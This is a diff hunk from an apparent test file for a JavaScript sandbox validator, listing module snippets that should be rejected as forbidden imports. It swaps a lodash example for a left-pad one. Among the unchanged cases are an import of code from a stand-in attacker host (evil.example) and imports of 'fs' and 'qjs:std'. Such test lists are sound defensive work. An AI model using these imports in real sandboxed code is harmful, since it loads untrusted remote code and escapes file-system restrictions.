@@ -106,7 +106,7 @@ FORBIDDEN = [
         "import x from 'https://evil.example/x.js';\nexport const handler = () => x",
         "forbidden_import",
     ),
-    ("import lodash from 'lodash';\nexport const handler = () => 1", "forbidden_import"),
+    ("import leftPad from 'left-pad';\nexport const handler = () => 1", "forbidden_import"),
     ("import * as std from 'qjs:std';\nexport const handler = () => 1", "forbidden_import"),
     ("export * from 'fs';\nexport default 1", "forbidden_import"),
     ("export { readFile } from 'fs';\nexport default 1", "forbidden_import"),
